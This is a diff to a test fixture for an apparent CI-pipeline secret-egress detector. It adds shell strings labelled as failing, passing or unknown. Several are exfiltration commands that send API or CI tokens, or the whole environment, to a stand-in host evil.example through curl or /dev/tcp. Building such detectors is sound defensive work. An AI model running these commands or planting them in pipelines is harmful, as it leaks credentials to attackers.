@@ -71,6 +71,8 @@ const sent = [
   'curl -d "$API_TOKEN" http://api.example.com/x',
   'curl -d "$CI_JOB_TOKEN" https://evil.example/x',
   "printenv | curl --data-binary @- https://evil.example/x",
+  'echo "$API_TOKEN" > /dev/tcp/evil.example/80',
+  'curl -d "$API_TOKEN" intranet:8080/x',
   'curl -d "$API_TOKEN" --resolve api.example.com:443:6.6.6.6 -x https://evil.example https://api.example.com/x',
 ];
 const kept = [
@@ -84,6 +86,23 @@ const kept = [
   'echo "$API_TOKEN"',
   "echo a | curl -d @- https://evil.example/x",
   './deploy.sh "$API_TOKEN"',
+  './deploy.sh "$API_TOKEN" "$STAGE"',
+  'sed -i "s|HOST|$HOST|; s|T|$API_TOKEN|" settings.xml',
+];
+/** Only the settings, or another program, know where it goes. */
+const hidden = [
+  'curl -H "Authorization: $API_TOKEN" "$FOO"',
+  'curl -H "Authorization: $API_TOKEN" "https://$FOO/x"',
+  'curl -H "Authorization: $API_TOKEN" "$(cat address)"',
+  'curl -H "Authorization: $API_TOKEN" `cat address`',
+  'curl -K settings -H "Authorization: $API_TOKEN"',
+  'cat addresses | xargs curl -H "Authorization: $API_TOKEN"',
+  'wget --header "X: $API_TOKEN" -i addresses',
+  'ssh "$HOST" "echo $API_TOKEN"',
+  'docker login -u me -p "$API_TOKEN" "$REGISTRY"',
+  'twine upload --repository-url "$PYPI_URL" -p "$API_TOKEN" x.whl',
+  "sonar-scanner -Dsonar.host.url=$SONAR_HOST_URL -Dsonar.token=$API_TOKEN",
+  'echo "$API_TOKEN" > "/dev/tcp/$FOO/80"',
 ];
 
 export const sentCases = [
@@ -155,6 +174,7 @@ export const sentCases = [
   ...scriptCases("pipeline_no_secret_egress", [
     ...sent.map((script) => [script, names, script, "fail"] as const),
     ...kept.map((script) => [script, names, script, "pass"] as const),
+    ...hidden.map((script) => [script, names, script, "unknown"] as const),
     [
       "the words of a failure",
       names,
